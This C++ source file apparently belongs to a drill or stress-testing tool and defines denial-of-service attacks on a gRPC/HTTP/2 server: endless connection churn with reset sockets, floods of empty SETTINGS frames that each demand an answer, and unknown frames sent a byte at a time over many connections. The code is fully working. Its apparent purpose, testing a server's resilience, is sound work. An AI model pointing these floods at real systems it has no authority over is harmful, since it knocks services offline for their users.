// Attacks by what comes before any call: connections, and HTTP/2's frames.
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <stdexcept>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "drills/attacks.h"

namespace terrane::drills {
namespace {

using namespace std::string_literals;

constexpr int kAtATime = 32;
const std::string kPreface =
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"s + "\0\0\0\4\0\0\0\0\0"s;  // no settings

/// Again and again, by threads of their own: a connection, which says something, and is closed once
/// the server has answered with whatever.
void connect_again_and_again(Attacker& attacker, const std::string& server,
                             const std::string& first) {
  for (int i = 0; i < kAtATime; ++i) {
    std::thread([&attacker, &server, first] {
      for (;;) {
        try {
          const int socket = connect_socket(attacker.source, server);
          // with a reset: else it would soon be out of ports
          constexpr linger kReset{.l_onoff = 1, .l_linger = 0};
          ::setsockopt(socket, SOL_SOCKET, SO_LINGER, &kReset, sizeof kReset);
          std::array<char, 4096> answer;
          if (::send(socket, first.data(), first.size(), MSG_NOSIGNAL) > 0 &&
              ::recv(socket, answer.data(), answer.size(), 0) > 0)
            ++attacker.done;
          ::close(socket);
        } catch (const std::runtime_error&) {
          std::this_thread::yield();
        }
      }
    }).detach();
  }
}

void grpc_connections(Attacker& attacker) {
  connect_again_and_again(attacker, attacker.server, kPreface);
}

void http_connections(Attacker& attacker) {
  connect_again_and_again(attacker, attacker.http, "GET /healthz HTTP/1.1\r\nHost: here\r\n\r\n");
}

/// Frames that are no call, again and again, in pieces of a size, on as many connections as there
/// may be.
void send_frames(Attacker& attacker, const std::string& frames, std::size_t piece) {
  constexpr int kThreads = 8, kEach = 24;
  for (int i = 0; i < kThreads; ++i) {
    std::thread([&attacker, frames, piece] {
      struct Connection {
        int socket = -1;
        std::size_t next = 0;
      };
      std::array<Connection, kEach> connections;
      for (;;) {
        for (auto& [socket, next] : connections) {
          try {
            if (socket < 0) {
              socket = connect_socket(attacker.source, attacker.server);
              next = 0;
              ::send(socket, kPreface.data(), kPreface.size(), MSG_NOSIGNAL);
            }
          } catch (const std::runtime_error&) {
            continue;
          }
          std::array<char, 4096> answer;
          while (::recv(socket, answer.data(), answer.size(), MSG_DONTWAIT) > 0) continue;
          const auto sent = ::send(socket, &frames[next], std::min(piece, frames.size() - next),
                                   MSG_NOSIGNAL | MSG_DONTWAIT);
          if (sent > 0) {
            next = (next + static_cast<std::size_t>(sent)) % frames.size();
            ++attacker.done;
          } else if (errno != EAGAIN) {
            ::close(std::exchange(socket, -1));
          }
        }
      }
    }).detach();
  }
}

/// A frame of a type that nobody knows (RFC 9113, 5.5: ignored), a byte at a time.
void grpc_bytes(Attacker& attacker) {
  send_frames(attacker, "\0\x20\0\x42\0\0\0\0\0"s + std::string(8192, 'x'), 1);
}

/// Settings that say nothing, of which each has an answer, as many as there is room for.
void grpc_frames(Attacker& attacker) {
  std::string frames;
  for (int i = 0; i < 1'000; ++i) frames += "\0\0\0\4\0\0\0\0\0"s;
  send_frames(attacker, frames, frames.size());
}

}  // namespace

std::vector<Attack> connection_attacks() {
  return {
      {"grpc_connections", grpc_connections, "connections"},
      {"http_connections", http_connections, "connections"},
      {"grpc_bytes", grpc_bytes, "bytes"},
      {"grpc_frames", grpc_frames, "pieces"},
  };
}

}  // namespace terrane::drills
